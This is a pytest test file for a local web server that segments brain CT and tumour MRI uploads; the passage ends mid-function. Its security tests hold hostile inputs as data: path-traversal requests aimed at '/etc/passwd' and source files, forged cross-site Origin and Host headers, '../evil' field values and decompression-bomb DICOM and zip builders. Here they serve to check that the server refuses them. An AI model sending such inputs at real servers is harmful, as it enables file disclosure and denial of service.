"""app.py: from an upload to its files, what is refused and how, hostile uploads, kills and ends.

One server for all tests, at a real socket; its working folder, home and temporary folder are empty
ones, in which afterwards nothing may lie.
"""

import gzip
import http.client
import io
import json
import os
import pickle
import secrets
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path
from types import SimpleNamespace

import cv2
import nibabel as nib
import numpy as np
import pytest
from pydicom.uid import DeflatedExplicitVRLittleEndian
from test_dicom import header_of, set_pixels, write_dicom

import app
import jobs
import pred
import uploads
from errors import InputError

ROOT = Path(app.__file__).parent
STEP = 2.5  # mm: the fixture's cubes
MOST_MB, MOST_PARTS = 32, 99
GIVEN_UP = 240  # seconds, on a machine with much else to do


class Site:
    """A server, asked as a program asks it."""

    def __init__(self, port: int, folder: Path, server=None):
        self.port, self.folder, self.app, self.cookie = port, folder, server, None

    def ask(self, method, path, body=None, **headers):
        """(status, headers, body) of a request; header names with _ for -."""
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        if self.cookie and "Cookie" not in headers:
            headers["Cookie"] = f"owner={self.cookie}"
        line = http.client.HTTPConnection("127.0.0.1", self.port, timeout=GIVEN_UP)
        try:
            line.request(method, path, body, headers)
            answer = line.getresponse()
            return answer.status, dict(answer.getheaders()), answer.read()
        finally:
            line.close()

    def raw(self, content: bytes) -> tuple[int, bytes]:
        """Status (0 for none) and all of the answer to bytes that need not be HTTP."""
        with socket.create_connection(("127.0.0.1", self.port), GIVEN_UP) as line:
            try:
                line.sendall(content)
                line.shutdown(socket.SHUT_WR)
                answer = b"".join(iter(lambda: line.recv(65536), b""))
            except OSError:  # closed at once
                return 0, b""
        return int(answer[9:12] or 0), answer

    def get(self, path) -> dict:
        return json.loads(self.ask("GET", path)[2])

    def post(self, *parts, **headers):
        """(status, JSON) of an upload; parts as `multipart` takes them."""
        kind = "multipart/form-data; boundary=XxXxX"
        status, said, body = self.ask("POST", "/api/jobs", multipart(*parts),
                                      **{"Content-Type": kind} | headers)  # fmt: skip
        if "Set-Cookie" in said:
            self.cookie = said["Set-Cookie"].split("owner=")[1].split(";")[0]
        return status, json.loads(body)

    def send(self, *parts) -> dict:
        """The job of an upload, when it is over."""
        status, job = self.post(*parts)
        assert status == 202, job
        return self.over(job)

    def over(self, job: dict) -> dict:
        end = time.monotonic() + GIVEN_UP
        while job["state"] in ("queued", "running") and time.monotonic() < end:
            time.sleep(0.02)
            job = self.get(f"/api/jobs/{job['id']}")
        return job

    def file(self, job: dict, name: str) -> bytes:
        status, _, content = self.ask("GET", job["result"]["files"][name])
        assert status == 200
        return content


def multipart(*parts) -> bytes:
    """A form's body: (name, content) is a file, a string "field=value" a field."""
    body = b""
    for part in parts:
        if isinstance(part, str):
            field, content = part.split("=", 1)
            where, content = f'name="{field}"'.encode(), content.encode()
        else:
            name, content = part
            name = name if isinstance(name, bytes) else name.encode()
            where = b'name="files"; filename="' + name.replace(b'"', b"%22") + b'"'
        body += b"--XxXxX\r\nContent-Disposition: form-data; " + where + b"\r\n\r\n"
        body += content + b"\r\n"
    return body + b"--XxXxX--\r\n"


def files_in(folder) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in Path(folder).rglob("*"))


@pytest.fixture(scope="module")
def around(tmp_path_factory):
    """Empty folders around the server: the one it works in, its home, the temporary one."""
    around, before = tmp_path_factory.mktemp("around"), os.getcwd()
    patch = pytest.MonkeyPatch()
    for name in ("work", "home", "tmp"):
        (around / name).mkdir()
    os.chdir(around / "work")
    patch.setenv("HOME", str(around / "home"))
    patch.setenv("TMPDIR", str(around / "tmp"))
    patch.setattr(tempfile, "tempdir", None)
    yield around
    os.chdir(before)
    patch.undo()


@pytest.fixture(scope="module")
def sample(cta, tmp_path_factory, save_nifti_as):
    """Two slices of the head, which are soon predicted."""
    path = tmp_path_factory.mktemp("sample") / "sample.nii.gz"
    return save_nifti_as(path, cta.hu[:, :, 40:42], cta.affine)


@pytest.fixture(scope="module")
def site(around, sample, tumour_model):
    settings = app.Settings((pred.MODEL, tumour_model), folder=around / "ours", sample=sample,
                            workers=1, max_mb=MOST_MB)  # fmt: skip
    served = app.create_app(settings)
    served.config["MAX_FORM_PARTS"] = MOST_PARTS
    listener = app.listen("127.0.0.1", 0)
    server = app.server_of(served, settings, listener)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    yield Site(listener.getsockname()[1], around / "ours", served)
    server.close()
    served.extensions["jobs"].close()
    assert files_in(around) == ["home", "tmp", "work"], "the end leaves something"


@pytest.fixture(scope="module")
def done(site, cta_file):
    """The job of a NIfTI scan that was sent."""
    return site.send(("Doe_Jane cta.nii.gz", cta_file.read_bytes()))


@pytest.fixture(scope="module")
def series(cta, tmp_path_factory):
    """Five slices of the head as DICOM files, by the names of a folder."""
    folder = tmp_path_factory.mktemp("dicom")
    hu = cta.hu[:, :, 40:45].transpose(2, 1, 0)[:, ::-1, ::-1]
    places = np.array([[-100, -100, STEP * k] for k in range(len(hu))])
    write_dicom(folder, hu, places, spacing=(STEP, STEP), PatientPosition="HFS")
    return {f"study/{path.name}": path.read_bytes() for path in sorted(folder.iterdir())}


def zipped(files: dict, **options) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, inside in files.items():
            archive.writestr(name, inside)
    return content.getvalue()


def nifti(content: bytes, suffix: str, folder: Path) -> nib.Nifti1Image:
    path = folder / f"read{suffix}"
    path.write_bytes(content)
    return nib.load(path)


# ---------------------------------------------------------------- from an upload to its files


@pytest.fixture(scope="module")
def plain(cta_file, tmp_path_factory):
    """The folder of pred.py's own result of that scan, and what it told of its progress."""
    told, out = [], tmp_path_factory.mktemp("plain")
    predictor = pred.Predictor(tell=lambda stage, share: told.append((stage, share)))
    job, = pred.plan([cta_file], out)
    work, = pred.predict_files([job], lambda: predictor, pred.Wanted(brain=True))
    assert work.error is None
    return job.folder, told


def test_a_scan_gives_what_pred_gives(site, done, plain):
    folder, about = plain[0], pred.read_json(plain[0] / "cta.json")
    assert done["state"] == "done" and done["progress"] == 1 and done["error"] == ""
    for key in ("volume_ml", "verdict", "reasons", "signs", "affine", "shape", "model"):
        assert done["result"][key] == about[key]
    assert site.file(done, "mask.nii.gz") == (folder / "cta_predicted_mask.nii.gz").read_bytes()
    assert site.file(done, "brain.nii.gz") == (folder / "cta_brain.nii.gz").read_bytes()
    assert site.file(done, "overlay.png") == (folder / "cta_overlay.png").read_bytes()


def test_pred_tells_every_stage_but_reading_and_writing(plain):
    stages = list(dict.fromkeys(stage for stage, _ in plain[1]))
    assert stages == [stage for stage in jobs.STAGES if stage not in ("reading", "writing")]
    assert all(0 <= share < 1 for _, share in plain[1])


def test_the_result_says_what_the_page_shows(done):
    result = done["result"]
    assert result["kind"] == "scan" and result["name"] == "Doe_Jane cta.nii.gz"
    assert result["labels"] == [
        {"value": 1, "name": "brain", "ml": result["volume_ml"], "colour": "#40e0ff"}
    ]
    assert result["volume_ml"] > 500 and result["seconds"] > 0
    assert set(result["files"]) == {
        "scan.nii.gz", "mask.nii.gz", "brain.nii.gz", "overlay.png", "result.json"
    }  # fmt: skip


def test_the_scan_shown_lies_on_the_masks_grid(site, done, cta, tmp_path):
    scan = nifti(site.file(done, "scan.nii.gz"), ".nii.gz", tmp_path)
    assert scan.get_data_dtype() == np.int16 and scan.shape == tuple(done["result"]["shape"])
    assert np.array_equal(scan.affine, done["result"]["affine"])
    assert np.array_equal(np.asarray(scan.dataobj), np.rint(cta.hu))


def test_nothing_of_the_servers_paths_is_told(site, done):
    told = site.file(done, "result.json") + json.dumps(done).encode()
    assert str(site.folder).encode() not in told and b"owner" not in told


def test_a_download_has_a_plain_name_and_kind(site, done):
    _, headers, _ = site.ask("GET", done["result"]["files"]["mask.nii.gz"])
    assert headers["Content-Disposition"] == "attachment; filename=Doe_Jane_cta_mask.nii.gz"
    assert headers["Content-Type"] == "application/gzip" and "Content-Encoding" not in headers


def test_the_sample_is_one_request_away(site):
    job = site.send("sample=1")
    assert job["name"] == "sample.nii.gz"
    assert job["result"]["volume_ml"] > 10


def test_dicom_gives_a_dicom_seg_too_zipped_or_with_other_files_beside(site, series):
    archive = site.send(("study.zip", zipped(series)))
    assert archive["state"] == "done", archive["error"]
    assert site.file(archive, "mask.dcm")[128:132] == b"DICM"
    beside = {"study/README.txt": b"viewer", "study/.DS_Store": b"x", "study/a.png": png(8, 8)}
    job = site.send(*(series | beside).items())
    assert job["name"] == "study" and job["result"]["shape"][2] == 5
    assert job["result"]["volume_ml"] == archive["result"]["volume_ml"] > 50
    assert site.file(job, "mask.nii.gz") == site.file(archive, "mask.nii.gz")
    assert "mask.dcm" in job["result"]["files"]


def test_a_picture_gives_a_mask_of_its_size(site, cta):
    picture = np.clip(cta.hu[:, :, 40].T[::-1] + 100, 0, 255).astype(np.uint8)
    job = site.send(("slice.png", cv2.imencode(".png", picture)[1].tobytes()))
    assert job["result"]["kind"] == "slice" and job["scan"] is None
    for name in ("picture.png", "mask.png", "overlay.png"):
        seen = cv2.imdecode(np.frombuffer(site.file(job, name), np.uint8), cv2.IMREAD_UNCHANGED)
        assert seen.shape[:2] == picture.shape


def test_a_dicom_image_without_geometry_gives_a_mask_of_its_size(site):
    job = site.send(("im.dcm", dicom(ImageOrientationPatient=None, PixelSpacing=None)))
    assert job["state"] == "done" and job["result"]["kind"] == "slice", job["error"]
    assert "taken as a slice" in job["result"]["notes"][0]
    mask = cv2.imdecode(np.frombuffer(site.file(job, "mask.png"), np.uint8), cv2.IMREAD_UNCHANGED)
    assert mask.shape == (8, 8) and "mask.dcm" not in job["result"]["files"]


def test_stages_come_in_order_and_are_shares_of_the_whole():
    job, seen = jobs.Job(Path("x"), "x", "brain", "me"), []
    for stage in jobs.STAGES:
        for share in (0, 0.5, 1):
            job.tell(stage, share)
            seen.append(job.progress)
    assert seen == sorted(seen) and seen[0] == 0 and seen[-1] == 1


# ---------------------------------------------------------------- MRI cases


@pytest.fixture(scope="module")
def modalities(tumour_case):
    """The files of the case without its labels, by name."""
    return {path.name: path.read_bytes() for path in sorted(tumour_case.iterdir())
            if "_seg" not in path.name}  # fmt: skip


def labels_in(site, job, folder) -> np.ndarray:
    assert job["state"] == "done", job["error"]
    return np.asarray(nifti(site.file(job, "mask.nii.gz"), ".nii.gz", folder).dataobj)


def test_the_tasks_are_the_models_that_are_served(site, tumour_model):
    brain, tumour = site.get("/api/about")["tasks"]
    assert (brain["name"], brain["kind"], brain["channels"]) == ("brain", "scan", ["ct"])
    assert (tumour["name"], tumour["kind"]) == ("tumour", "case")
    assert tumour["channels"] == ["flair", "t1ce"]
    assert tumour["model"]["name"] == "tumour.keras"
    assert list(tumour["model"]["labels"].values())[1] == "oedema"
    assert list(jobs.tasks_of([tumour_model, pred.MODEL, tumour_model])) == [
        "tumour", "brain", "tumour 2"]  # fmt: skip


def test_a_case_gives_what_pred_gives(site, tumour_case, tumour_model, modalities, tmp_path):
    job = site.send(*modalities.items(), "task=tumour")
    truth = nib.load(tumour_case / "BraTS_7_seg.nii.gz")
    np.testing.assert_array_equal(labels_in(site, job, tmp_path), np.asarray(truth.dataobj))
    assert pred.main([str(tumour_case), "--model", str(tumour_model), "--out", str(tmp_path)]) == 0
    made, result = tmp_path / "BraTS_7_prediction", job["result"]
    for name in ("mask.nii.gz", "overlay.png"):
        ours = made / jobs.FILES[name].replace("scan", "BraTS_7", 1)
        assert site.file(job, name) == ours.read_bytes()
    about = pred.read_json(made / "BraTS_7.json")
    assert all(result[key] == about[key] for key in ("volume_ml", "volumes_ml", "affine", "model"))
    assert (job["name"], job["task"], result["kind"]) == ("BraTS_7", "tumour", "case")
    assert set(result["files"]) == {"scan.nii.gz", "mask.nii.gz", "overlay.png", "result.json"}
    shown = nifti(site.file(job, "scan.nii.gz"), ".nii.gz", tmp_path)
    assert shown.shape == truth.shape and np.array_equal(shown.affine, truth.affine)


def test_a_cases_labels_and_regions_have_values_volumes_and_colours(site, modalities):
    result = site.send(*modalities.items(), "task=tumour")["result"]
    assert [(label["name"], label["value"]) for label in result["labels"]] == [
        ("necrotic core", 1), ("oedema", 2), ("enhancing tumour", 4)]  # fmt: skip
    assert [(region["name"], region["values"]) for region in result["regions"]] == [
        ("whole tumour", [1, 2, 4]), ("tumour core", [1, 4])]  # fmt: skip
    rows = result["labels"] + result["regions"]
    assert all(row["ml"] == result["volumes_ml"][row["name"]] > 0 for row in rows)
    assert len({row["colour"] for row in rows}) == 5


def test_channels_are_as_the_sender_says_and_else_as_the_names_say(site, modalities, tmp_path):
    flair, t1ce = modalities.values()
    said = json.dumps({"/etc/a.nii.gz": "t1ce", "b_t1ce.nii.gz": "flair"})
    sent = (("/etc/a.nii.gz", t1ce), ("b_t1ce.nii.gz", flair), ("notes.txt", b"left out"))
    corrected = site.send(*sent, "task=tumour", f"channels={said}")
    by_name = site.send(*modalities.items(), ("x_seg.nii.gz", flair), "task=tumour")
    np.testing.assert_array_equal(*(labels_in(site, job, tmp_path) for job in (corrected, by_name)))
    asked = "/api/channels?task=tumour&name=in/x-t2f.nii&name=T1.nii.gz&name=y_seg.nii&name=x"
    assert site.get(asked) == {"channels": {"in/x-t2f.nii": "flair"}}
    assert site.get("/api/channels?task=brain&name=x_flair.nii") == {"channels": {}}


@pytest.mark.parametrize("names, words", [
    (["x_flair.nii.gz"], "x_flair.nii.gz: no t1ce volume in case, only flair"),
    (["x_flair.nii.gz", "x_t1.nii.gz"], "x: no t1ce volume in case, only flair"),
    (["in/a_flair.nii.gz", "in/b_flair.nii.gz", "in/t1ce.nii.gz"],
     "in: several flair volumes in case (a_flair.nii.gz, b_flair.nii.gz)"),
    (["a.nii.gz", "b.nii.gz"], "case holds no NIfTI file that is named as a modality"),
    (["x_flair.nii.gz", "x_t1ce.nii.gz", "other grid"], "register them to one grid"),
    (["study.zip"], "study.zip is one file, and this model looks at flair, t1ce"),
])  # fmt: skip
def test_what_pred_refuses_of_a_case_is_the_jobs_error(site, modalities, names, words):
    contents = dict.fromkeys(names, modalities["BraTS_7_flair.nii.gz"])
    if contents.pop("other grid", None):
        contents["x_t1ce.nii.gz"] = small_nifti(np.arange(4**3).reshape(4, 4, 4))
    if "study.zip" in contents:
        contents = {"study.zip": zipped(contents)}
    job = site.send(*contents.items(), "task=tumour")
    assert job["state"] == "failed" and words in job["error"], job["error"]
    assert str(site.folder) not in job["error"] and job["id"] not in os.listdir(site.folder)


@pytest.mark.parametrize("field, words", [
    ("task=../evil", "there is no task ../evil; choose brain or tumour"),
    ("channels=[]", "channels must be a JSON object"), ("channels={", "must be a JSON object"),
    ('channels={"x": "../evil"}', "name and flair or t1ce"), ('channels={"x": {}}', "name and fl"),
    ("channels=" + "[" * 10**5, "channels must be a JSON object"),
    ("sample=1", "the sample is a head CTA"),
], ids=lambda value: value[:20])  # fmt: skip
def test_a_task_that_cannot_be_is_refused(site, modalities, field, words):
    task = [] if field.startswith("task") else ["task=tumour"]
    status, said = site.post(*modalities.items(), field, *task)
    assert status == 400 and words in said["error"]


def test_a_slice_of_several_modalities_gives_its_labels(site, tumour_case):
    case = {kind: np.asarray(nib.load(tumour_case / f"BraTS_7_{kind}.nii.gz").dataobj)[..., 16]
            for kind in ("flair", "t1ce", "seg")}  # fmt: skip
    seen = [np.where(case[kind], (case[kind] - 100.0) * (254 / 800) + 1, 0)
            for kind in ("t1ce", "flair")]  # fmt: skip
    picture = np.rint(np.dstack([np.zeros_like(seen[0]), *seen])).astype(np.uint8)
    job = site.send(("s.png", cv2.imencode(".png", picture)[1].tobytes()), "task=tumour")
    mask = cv2.imdecode(np.frombuffer(site.file(job, "mask.png"), np.uint8), cv2.IMREAD_UNCHANGED)
    np.testing.assert_array_equal(mask, case["seg"])
    assert job["result"]["kind"] == "slice"
    assert job["result"]["labelled_pixels"] == np.count_nonzero(mask)


# ---------------------------------------------------------------- cancelled, killed, kept, deleted


def stopped(site) -> jobs.Worker:
    """The idle worker, which answers nothing until it is told to go on."""
    worker = site.app.extensions["jobs"].idle[-1]
    os.kill(worker.process.pid, signal.SIGSTOP)
    return worker


def test_cancel_ends_a_running_job_and_the_next_one_runs(site):
    worker = stopped(site)
    _, first = site.post("sample=1")
    _, second = site.post("sample=1")
    while (first := site.get(f"/api/jobs/{first['id']}"))["state"] == "queued":
        time.sleep(0.02)
    assert first["state"] == "running"
    assert site.get(f"/api/jobs/{second['id']}")["state"] == "queued"
    for job in (second, first):
        assert json.loads(site.ask("DELETE", f"/api/jobs/{job['id']}")[2])["state"] == "cancelled"
    assert not worker.process.is_alive()
    assert site.send("sample=1")["state"] == "done"
    assert site.get(f"/api/jobs/{first['id']}")["state"] == "cancelled"
    assert not {first["id"], second["id"]} & set(os.listdir(site.folder))


def test_a_process_that_dies_fails_its_job_alone(site):
    worker = stopped(site)
    _, job = site.post("sample=1")
    os.kill(worker.process.pid, signal.SIGKILL)
    job = site.over(job)
    assert job["state"] == "failed" and "ended by the system" in job["error"]
    assert site.send("sample=1")["state"] == "done"


def test_a_job_that_takes_too_long_is_ended(tmp_path, monkeypatch):
    monkeypatch.setattr(jobs, "MOST_SECONDS", 0)
    killed = []
    ours, theirs = jobs.SPAWN.Pipe()
    worker = SimpleNamespace(pipe=ours, kill=lambda: killed.append(True))
    state, words = jobs.follow(jobs.Job(tmp_path, "x", "brain", "me", worker=worker))
    assert state == "failed" and "took longer" in words and killed
    assert theirs.recv() == ("brain", None, tmp_path, "x")


def test_deleted_is_deleted(site):
    job = site.send("sample=1")
    assert json.loads(site.ask("DELETE", f"/api/jobs/{job['id']}")[2])["state"] == "deleted"
    assert site.ask("GET", f"/api/jobs/{job['id']}")[0] == 404
    assert site.ask("GET", job["result"]["files"]["mask.nii.gz"])[0] == 404
    assert job["id"] not in os.listdir(site.folder)


def test_what_is_kept_long_enough_is_deleted(site):
    job = site.send(("a.png", png(64, 64)))
    queue = site.app.extensions["jobs"]
    here = queue.jobs[job["id"]]
    queue.forget(2.0)
    assert here.folder.exists()
    here.created = 1.0
    queue.forget(2.0)
    assert site.ask("GET", f"/api/jobs/{job['id']}")[0] == 404 and not here.folder.exists()


def test_a_browser_lists_its_own_jobs_newest_first(site):
    other = Site(site.port, site.folder)
    status, headers, _ = other.ask("POST", "/api/jobs", multipart("sample=1"),
                                   Content_Type="multipart/form-data; boundary=XxXxX")  # fmt: skip
    assert status == 202
    assert {"HttpOnly", "SameSite=Strict"} <= set(headers["Set-Cookie"].split("; "))
    assert other.get("/api/jobs") == {"jobs": []}
    other.cookie = headers["Set-Cookie"].split("owner=")[1].split(";")[0]
    first, = other.get("/api/jobs")["jobs"]
    second = other.send(("a.png", png(64, 64)))
    assert [job["id"] for job in other.get("/api/jobs")["jobs"]] == [second["id"], first["id"]]
    other.over(first)
    assert len(first["id"]) == 22, "128 bits"


DRIVER = """
import sys, app
from pathlib import Path
from errors import run
settings = app.Settings(port=0, folder=Path(sys.argv[1]), sample=Path(sys.argv[2]), workers=1)
run(lambda: app.serve(settings))
"""


def start(folder: Path, sample: Path) -> tuple[subprocess.Popen, Site]:
    process = subprocess.Popen(
        [sys.executable, "-c", DRIVER, folder, sample], cwd=ROOT, text=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    address = process.stdout.readline().split("/  ")[0]
    return process, Site(int(address.rsplit(":")[-1] or 0) if address else 0, folder)


def test_a_finished_job_survives_a_kill_and_nothing_a_clean_end(tmp_path, sample):
    folder = tmp_path / "page"
    process, site = start(folder, sample)
    assert folder.stat().st_mode & 0o777 == 0o700
    job = site.send("sample=1")
    mask = site.file(job, "mask.nii.gz")
    (folder / "unfinished" / "input").mkdir(parents=True)
    process.kill()
    process.communicate()
    process, again = start(folder, sample)
    again.cookie = site.cookie
    assert again.get("/api/jobs")["jobs"] == [again.get(f"/api/jobs/{job['id']}")]
    assert again.get("/api/jobs")["jobs"][0]["result"] == job["result"]
    assert again.file(job, "mask.nii.gz") == mask
    assert not (folder / "unfinished").exists()
    process.send_signal(signal.SIGTERM)
    _, said = process.communicate()
    assert process.returncode == 0 and said == "" and not folder.exists()


def test_a_folder_of_others_is_not_used(tmp_path):
    for name, make in {"open": lambda p: p.mkdir(), "file": lambda p: p.touch(),
                       "link": lambda p: p.symlink_to(tmp_path)}.items():
        make(tmp_path / name)
        (tmp_path / name).chmod(0o755)
        with pytest.raises(InputError, match="not yours alone"):
            jobs.open_folder(tmp_path / name)


def test_a_folder_is_one_servers(tmp_path):
    with (
        jobs.open_folder(tmp_path / "page"),
        pytest.raises(InputError, match="another server uses .*/page; choose another --port"),
    ):
        jobs.open_folder(tmp_path / "page")


def test_a_model_that_is_none_is_one_line(tmp_path):
    with pytest.raises(InputError, match="there is no model"):
        jobs.Jobs([pred.MODEL, tmp_path / "none.keras"], tmp_path / "page", 1, 1)
    assert not (tmp_path / "page").exists()


# ---------------------------------------------------------------- refused in words


def test_every_answer_forbids_scripts_from_elsewhere(site, done):
    for path in ("/", "/page/page.css", "/api/about", f"/api/jobs/{done['id']}", "/none"):
        _, headers, _ = site.ask("GET", path)
        policy = headers["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "unsafe-inline" not in policy, path
        assert "frame-ancestors 'none'" in policy
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert "Server" not in headers
        assert headers["Cache-Control"] == ("no-store" if "/api" in path else "no-cache")


@pytest.mark.parametrize("headers", [
    {"Origin": "https://evil.example"}, {"Origin": "null"}, {"Sec_Fetch_Site": "cross-site"},
    {"Sec_Fetch_Site": "same-site"}, {"Origin": "http://127.0.0.1:1"},
])  # fmt: skip
def test_another_sites_page_cannot_ask(site, done, headers):
    assert site.post("sample=1", **headers)[0] == 403
    assert site.ask("DELETE", f"/api/jobs/{done['id']}", **headers)[0] == 403
    assert site.ask("GET", f"/api/jobs/{done['id']}")[0] == 200


def test_the_page_itself_may_ask(site):
    own = {"Origin": f"http://127.0.0.1:{site.port}", "Sec_Fetch_Site": "same-origin"}
    status, job = site.post(("a.png", png(64, 64)), **own)
    assert status == 202 and site.over(job)["state"] == "done"


@pytest.mark.parametrize("bound, host, ours", [
    ("127.0.0.1", "127.0.0.1:8000", True), ("127.0.0.1", "localhost", True),
    ("127.0.0.1", "[::1]:80", True), ("127.0.0.1", "evil.example", False),
    ("127.0.0.1", "192.168.0.7", False), ("127.0.0.1", "", False), ("127.0.0.1", "[x", False),
    ("0.0.0.0", "192.168.0.7:8000", True), ("0.0.0.0", "evil.example", False),
    ("reader.clinic", "reader.clinic:8000", True), ("reader.clinic", "evil.example", False),
])  # fmt: skip
def test_only_the_servers_own_names_lead_to_it(bound, host, ours):
    assert app.is_ours(host, bound) == ours


def test_a_strange_host_gets_nothing(site, done):
    for path in ("/", "/api/about", f"/api/jobs/{done['id']}"):
        status, _, body = site.ask("GET", path, Host="evil.example")
        assert status == 403 and "address" in json.loads(body)["error"]


def test_unknown_jobs_and_files_are_404(site, done):
    own = f"/api/jobs/{done['id']}"
    for path in ("/api/jobs/x", f"{own}/job.json", f"{own}/scan.json", f"{own}/../job.json",
                 f"{own}/mask.dcm", "/api/none", "/page/none.js"):  # fmt: skip
        status, _, body = site.ask("GET", path)
        assert status == 404 and json.loads(body)["error"], path
    assert site.ask("DELETE", "/api/jobs/x")[0] == 404
    assert site.ask("PUT", "/api/jobs")[0] == 405


@pytest.mark.parametrize("path", [
    "/page/../app.py", "/page/..%2fapp.py", "/page/%2e%2e/app.py", "/page//etc/passwd",
    "/page/..\\app.py", "/../../etc/passwd", "//etc/passwd", "/page/%00", "/api/jobs/../about",
])  # fmt: skip
def test_no_path_leads_out_of_the_page(site, path):
    status, answer = site.raw(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode("latin-1"))
    assert status in (400, 404) and b"import" not in answer and b"root:" not in answer


def test_files_of_a_job_under_way_must_be_waited_for(site):
    worker = stopped(site)
    _, job = site.post("sample=1")
    folder = site.folder / job["id"]
    assert site.ask("GET", f"/api/jobs/{job['id']}/mask.nii.gz")[0] == 409
    assert site.ask("GET", f"/api/jobs/{job['id']}/scan.nii.gz")[0] in (200, 409)
    assert site.ask("GET", f"/api/jobs/{job['id']}/other")[0] == 404
    (folder / "scan_overlay.png").touch()
    assert site.ask("GET", f"/api/jobs/{job['id']}/overlay.png")[0] == 409
    (folder / "scan.nii.gz").touch()
    assert site.ask("GET", f"/api/jobs/{job['id']}/scan.nii.gz")[0] == 200
    os.kill(worker.process.pid, signal.SIGCONT)
    assert site.over(job)["state"] == "done"


def test_too_many_jobs_and_a_full_disk_are_said(site, monkeypatch):
    monkeypatch.setattr(app, "MOST_WAITING", 0)
    status, said = site.post("sample=1")
    assert status == 429 and "too many jobs" in said["error"]
    monkeypatch.undo()
    monkeypatch.setattr(app.shutil, "disk_usage", lambda path: shutil._ntuple_diskusage(9, 9, 0))
    status, said = site.post("sample=1")
    assert status == 507 and "disk" in said["error"]


def test_an_upload_over_the_cap_is_413_in_words(site):
    head = (f"POST /api/jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: {MOST_MB * 2**20 + 2}"
            "\r\nContent-Type: multipart/form-data; boundary=XxXxX\r\n\r\n").encode()  # fmt: skip
    status, answer = site.raw(head)
    assert status == 413 and f"one upload may have {MOST_MB} MB".encode() in answer


@pytest.mark.parametrize("name, content, words", [
    ("half.nii.gz", "half", "half.nii.gz is truncated or damaged"),
    ("several.nii", "several", "several.nii holds 2 volumes"),
    ("study.zip", "zip", "study.zip holds no DICOM image"),
    ("<b>.dcm", "dicom", "<b>.dcm is neither a NIfTI nor a readable DICOM image"),
    ("x.png", "photo", "x.png is a colour picture"),
])  # fmt: skip
def test_what_pred_refuses_is_the_jobs_error(site, name, content, words):
    photo = np.random.default_rng(0).integers(0, 255, (4, 4, 3)).astype(np.uint8)
    contents = {
        "half": small_nifti(np.random.default_rng(0).integers(0, 99, (16, 16, 16)))[:-2000],
        "several": raw_nifti(np.zeros((4, 4, 4, 2), np.int16)),
        "zip": zipped({"readme.txt": b"x"}),
        "dicom": b"\0" * 128 + b"DICM" + b"\0" * 50,
        "photo": cv2.imencode(".png", cv2.resize(photo, (64, 64)))[1].tobytes(),
    }
    job = site.send((name, contents[content]))
    assert job["state"] == "failed" and job["error"].startswith(words)
    assert "/" not in job["error"].replace("3-D", "") and job["id"] not in os.listdir(site.folder)


def test_several_scans_at_once_are_refused(site):
    status, said = site.post(("a.nii", raw_nifti()), ("b.nii", raw_nifti()))
    assert status == 400 and "2 files came at once (a.nii, b.nii)" in said["error"]


def test_an_address_for_others_is_warned_of(monkeypatch, capsys, cta_file):
    served = []
    monkeypatch.setattr(app, "serve", served.append)
    monkeypatch.setattr(app, "SAMPLE", cta_file)
    app.main(["--host", "0.0.0.0", "--max-mb", "10"])
    assert "no password" in capsys.readouterr().err and served[0].most_bytes == 10 << 20
    app.main([])
    assert capsys.readouterr().err == "" and served[1].host == "127.0.0.1"
    with pytest.raises(SystemExit):
        app.parse(["--workers", "0"])


def test_an_address_that_is_taken_is_one_line(site):
    with pytest.raises(InputError, match="choose another --port"):
        app.listen("127.0.0.1", site.port)


# ---------------------------------------------------------------- hostile uploads


def png(width: int, height: int, rows: bytes | None = None) -> bytes:
    """A grey PNG that says it is so large; of zeros, or with these compressed rows."""

    def chunk(kind, content):
        checksum = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + checksum

    rows = zlib.compress(b"\0" * (width + 1) * height) if rows is None else rows
    start = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + start + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def raw_nifti(array=None, **fields) -> bytes:
    """An uncompressed NIfTI file whose header says what `fields` do."""
    array = np.zeros((16, 16, 16), np.int16) if array is None else array
    header = nib.Nifti1Header()
    header.set_data_shape(array.shape)
    header.set_data_dtype(array.dtype)
    header["vox_offset"], header["sform_code"] = 352, 1
    for axis, row in enumerate(("srow_x", "srow_y", "srow_z")):
        header[row][axis] = 1
    for name, value in fields.items():
        header[name] = value
    return header.binaryblock + b"\0" * 4 + array.tobytes("F")


def small_nifti(array) -> bytes:
    return gzip.compress(raw_nifti(array.astype(np.int16)))


def nifti2(**fields) -> bytes:
    header = nib.Nifti2Header()
    for name, value in fields.items():
        header[name] = value
    return header.binaryblock + b"\0" * 100


def dicom(**tags) -> bytes:
    """A DICOM slice of 8 x 8 whose header says what `tags` do."""
    item = header_of()
    item.ImageOrientationPatient, item.ImagePositionPatient = [1, 0, 0, 0, 1, 0], [0, 0, 0]
    item.PixelSpacing = [1, 1]
    set_pixels(item, np.zeros((8, 8), np.int16))
    for name, value in tags.items():
        setattr(item, name, value)
    content = io.BytesIO()
    item.save_as(content, enforce_file_format=True)
    return content.getvalue()


def deflated_dicom() -> bytes:
    """A DICOM file whose header is a few kB that unpack to 10 MB."""
    item = header_of()
    item.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    start = io.BytesIO()
    item.save_as(start, enforce_file_format=True)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = b"".join(packer.compress(b"\0" * 2**20) for _ in range(10)) + packer.flush()
    return start.getvalue().split(b"1.2.840.10008.1.2.1.99")[0] + b"1.2.840.10008.1.2.1.99" + bomb


def with_size(archive: bytes, size: int) -> bytes:
    """A zip whose directory says that every member unpacks to `size` bytes."""
    parts = archive.split(b"PK\1\2")
    return b"PK\1\2".join(
